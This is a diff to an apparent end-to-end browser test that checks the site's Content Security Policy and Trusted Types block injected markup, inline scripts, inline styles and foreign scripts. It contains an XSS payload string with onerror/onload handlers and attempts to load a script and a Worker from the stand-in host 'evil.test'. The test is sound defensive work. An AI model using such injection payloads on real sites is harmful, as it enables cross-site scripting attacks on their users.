@@ -1,55 +1,49 @@
 import { expect, test, visit } from '#test/e2e/support/test.ts';
 
 const PAYLOAD = '"><img src=x onerror=__pwned=1><svg onload=__pwned=1>';
-test.describe('F-82 our own code puts markup or inline code into the page', () => {
-  test('the browser refuses it: no element comes of it and nothing runs', async ({ page, expectNoise }) => {
-    expectNoise(/Trusted|Content Security Policy|content-security-policy/i);
-    await visit(page, 'offers');
-    const refused = await page.evaluate((payload) => {
-      const refusals: string[] = [];
-      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
-        refusals.push(effectiveDirective),
-      );
+const DIRECTIVES = ['require-trusted-types-for', 'style-src-attr', 'style-src-elem'];
+
+test('The browser refuses markup, scripts and inline styles from our own code', async ({ page, expectNoise }) => {
+  expectNoise(/Trusted|Content Security Policy|content-security-policy/i);
+  await visit(page, 'offers');
+  const outcome = await page.evaluate(
+    async ({ payload, directives }) => {
+      const refusals = new Set<string>();
+      const allRefused = new Promise<void>((resolve) => {
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+          refusals.add(effectiveDirective);
+          if (directives.every((directive) => refusals.has(directive))) resolve();
+        });
+      });
       const place = document.body.appendChild(document.createElement('div'));
-      const attempts: readonly (() => void)[] = [
-        () => (place.innerHTML = payload),
-        () => place.insertAdjacentHTML('beforeend', payload),
-        () => place.setHTMLUnsafe(payload),
-        () => document.write(payload),
-        () => (document.createElement('iframe').srcdoc = payload),
-        () => (document.createElement('script').text = '__pwned=1'),
-        () => (document.createElement('script').src = '//evil.test/x.js'),
-        () => place.setAttribute('onclick', '__pwned=1'),
-        () => void new Worker('//evil.test/x.js'),
-      ];
-      const thrown = attempts.map((attempt) => {
+      const attempts: Readonly<Record<string, () => unknown>> = {
+        innerHTML: () => (place.innerHTML = payload),
+        insertAdjacentHTML: () => place.insertAdjacentHTML('beforeend', payload),
+        setHTMLUnsafe: () => place.setHTMLUnsafe(payload),
+        write: () => document.write(payload),
+        srcdoc: () => (document.createElement('iframe').srcdoc = payload),
+        inlineScript: () => (document.createElement('script').text = '__pwned=1'),
+        foreignScript: () => (document.createElement('script').src = '//evil.test/x.js'),
+        handler: () => place.setAttribute('onclick', '__pwned=1'),
+        worker: () => new Worker('//evil.test/x.js'),
+      };
+      const isRefused = (attempt: () => unknown) => {
         try {
           attempt();
-          return 'done';
+          return false;
         } catch (error) {
-          return error instanceof TypeError ? 'refused' : String(error);
+          return error instanceof TypeError;
         }
-      });
+      };
+      const accepted = Object.keys(attempts).filter((name) => !isRefused(attempts[name] ?? (() => {})));
       place.setAttribute('style', 'color: red');
-      const styles = document.head.appendChild(document.createElement('style'));
-      styles.textContent = 'body { display: none }';
-      return new Promise<{ thrown: string[]; refusals: string[]; elements: number }>((resolve) => {
-        // The browser tells of a refusal in a later task.
-        const toldOfAll = () =>
-          ['require-trusted-types-for', 'style-src-attr', 'style-src-elem'].every((one) => refusals.includes(one));
-        const answer = () => {
-          if (toldOfAll()) resolve({ thrown, refusals, elements: place.childElementCount });
-        };
-        document.addEventListener('securitypolicyviolation', answer);
-        answer();
-      });
-    }, PAYLOAD);
-    expect(refused).toEqual({
-      thrown: Array.from({ length: 9 }, () => 'refused'),
-      refusals: expect.arrayContaining(['require-trusted-types-for', 'style-src-attr', 'style-src-elem']),
-      elements: 0,
-    });
-    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
-  });
+      document.head.appendChild(document.createElement('style')).textContent = 'body { display: none }';
+      await allRefused;
+      return { accepted, elements: place.childElementCount };
+    },
+    { payload: PAYLOAD, directives: DIRECTIVES },
+  );
+  expect(outcome).toEqual({ accepted: [], elements: 0 });
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  expect(await page.evaluate(() => '__pwned' in window)).toBe(false);
 });
